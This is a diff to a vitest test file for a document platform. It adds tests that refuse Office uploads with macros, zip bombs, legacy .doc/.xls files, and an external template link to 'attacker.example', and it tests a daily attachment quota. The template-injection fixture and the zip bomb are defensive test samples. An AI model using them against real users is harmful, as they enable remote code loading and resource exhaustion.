@@ -2,7 +2,8 @@ import { request as httpRequest } from "node:http";
 import { and, eq, sql } from "drizzle-orm";
 import { beforeAll, describe, expect, it } from "vitest";
 import { capabilities, documents, featureToggles, users } from "../../server/db/schema";
-import { SAMPLES, wordDocument, workbook } from "../sample-files";
+import { attachmentAllowance, readEnv } from "../../server/env";
+import { craftedWordDocument, SAMPLES, wordDocument, workbook, zipBomb } from "../sample-files";
 import { type ErrorAnswer, type Platform, withPlatform } from "./harness";
 
 type Typed = { _type: string; _val: string };
@@ -936,7 +937,6 @@ describe("changing documents", () => {
     const cases: Array<[string, Uint8Array]> = [
       ["invoice.pdf", SAMPLES.exe()],
       ["photo.jpg", SAMPLES.png()],
-      ["letter.docx", wordDocument(true)],
       ["letter.docx", SAMPLES.zip()],
       ["figures.csv", SAMPLES.pdf()],
       ["scan.pdf", new Uint8Array(100)],
@@ -953,6 +953,32 @@ describe("changing documents", () => {
       expect(refused.status, name).toBe(400);
       expect(refused.body.api_message, name).toBe("File content does not match its type, please remove.");
     }
+  });
+
+  it("refuses Office packages with macros, links to content elsewhere or a zip bomb, and .doc and .xls (issue 39)", async () => {
+    const { body } = await compose(changing.platform, client, "Office files");
+    const attachedTemplate = craftedWordDocument({
+      relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
+    });
+    const cases: Array<[string, Uint8Array, string]> = [
+      ["letter.docx", wordDocument(true), "File contains macros or other active content, please remove."],
+      [
+        "letter.docx",
+        craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } }),
+        "File contains macros or other active content, please remove.",
+      ],
+      ["form.docx", attachedTemplate, "File links to content stored elsewhere, please remove."],
+      ["figures.xlsx", zipBomb(2048), "File is too large when unpacked, please remove."],
+      ["old letter.doc", SAMPLES.compound(), "File type not allowed, please remove."],
+      ["old sheet.xls", SAMPLES.compound(), "File type not allowed, please remove."],
+    ];
+    for (const [name, content, message] of cases) {
+      const refused = await upload(changing.platform, client, body.id, name, content as Uint8Array<ArrayBuffer>);
+      expect(refused.status, name).toBe(400);
+      expect(refused.body.api_message, name).toBe(message);
+    }
+    const plain = craftedWordDocument() as Uint8Array<ArrayBuffer>;
+    expect((await upload(changing.platform, client, body.id, "letter.docx", plain)).status).toBe(201);
   });
 
   it("stores a file named with '=' and trailing dots under its normalised name, and serves it safely (issue 24)", async () => {
@@ -1082,5 +1108,74 @@ describe("changing documents", () => {
     });
     expect(none.status).toBe(422);
     expect(none.body.api_message).toBe("No adviser to notify");
+  });
+});
+
+describe("the attachments a client may store in 24 hours (ASVS V12.1.3, issue 39)", () => {
+  const limited = withPlatform({ attachmentAllowance: { files: 3, bytes: 1_000 } });
+  const pdfOf = (bytes: number) => {
+    const head = "%PDF-1.4\n";
+    return new Uint8Array(Buffer.from(head + " ".repeat(bytes - head.length))) as Uint8Array<ArrayBuffer>;
+  };
+  type Allowance = { files_per_day: number; bytes_per_day: number; files_left: number; bytes_left: number };
+
+  it("answers what is left, refuses a file past it with 429, and counts again after 24 hours", async () => {
+    const p = limited.platform;
+    const client = await p.session("demo.client");
+    const allowance = () => p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: client });
+    expect((await allowance()).body).toEqual({
+      files_per_day: 3,
+      bytes_per_day: 1_000,
+      files_left: 3,
+      bytes_left: 1_000,
+    });
+    const first = (await compose(p, client, "First")).body.id;
+    expect((await upload(p, client, first, "a.pdf", pdfOf(400))).status).toBe(201);
+    expect((await upload(p, client, first, "b.pdf", pdfOf(400))).status).toBe(201);
+    expect((await allowance()).body).toMatchObject({ files_left: 1, bytes_left: 200 });
+    // the bytes: 400 more would pass 1,000, on another message too
+    const second = (await compose(p, client, "Second")).body.id;
+    const tooMuch = await upload(p, client, second, "c.pdf", pdfOf(400));
+    expect(tooMuch.status).toBe(429);
+    expect(tooMuch.body.api_message).toBe(
+      "Attachment limit reached: no more files can be stored for you in the next 24 hours.",
+    );
+    expect((await upload(p, client, second, "c.pdf", pdfOf(200))).status).toBe(201);
+    // the files: a fourth is refused whatever its size
+    expect((await upload(p, client, second, "d.pdf", pdfOf(20))).status).toBe(429);
+    expect((await allowance()).body).toMatchObject({ files_left: 0, bytes_left: 0 });
+    // another client has an allowance of their own
+    const partner = await p.session("demo.partner");
+    const theirs = await p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: partner });
+    expect(theirs.body).toMatchObject({ files_left: 3, bytes_left: 1_000 });
+    // 24 hours later the files of the day before no longer count
+    p.clock.advance(24 * 60 * 60 * 1000 + 1);
+    const later = await p.session("demo.client");
+    const now = await p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: later });
+    expect(now.body).toMatchObject({ files_left: 3, bytes_left: 1_000 });
+    expect((await upload(p, later, second, "d.pdf", pdfOf(20))).status).toBe(201);
+  });
+
+  it("is 50 files and 100 MB unless the environment says otherwise, and refuses a setting below one file", () => {
+    expect(attachmentAllowance(readEnv({ NODE_ENV: "development" }))).toEqual({ files: 50, bytes: 100_000_000 });
+    const set = readEnv({
+      NODE_ENV: "development",
+      PLATFORM_ATTACHMENTS_PER_DAY: "20",
+      PLATFORM_ATTACHMENT_BYTES_PER_DAY: "40000000",
+    });
+    expect(attachmentAllowance(set)).toEqual({ files: 20, bytes: 40_000_000 });
+    expect(() => readEnv({ NODE_ENV: "development", PLATFORM_ATTACHMENTS_PER_DAY: "0" })).toThrow(
+      /PLATFORM_ATTACHMENTS_PER_DAY/,
+    );
+    expect(() => readEnv({ NODE_ENV: "development", PLATFORM_ATTACHMENT_BYTES_PER_DAY: "9999999" })).toThrow(
+      /PLATFORM_ATTACHMENT_BYTES_PER_DAY/,
+    );
+  });
+
+  it("is a client's own: an adviser is refused", async () => {
+    const p = limited.platform;
+    const counsel = await p.session("demo.adviser", "adviser");
+    expect((await p.call("/resourceful/docnote-v2/attachment-allowance", { token: counsel })).status).toBe(403);
+    expect((await p.call("/resourceful/docnote-v2/attachment-allowance", {})).status).toBe(401);
   });
 });
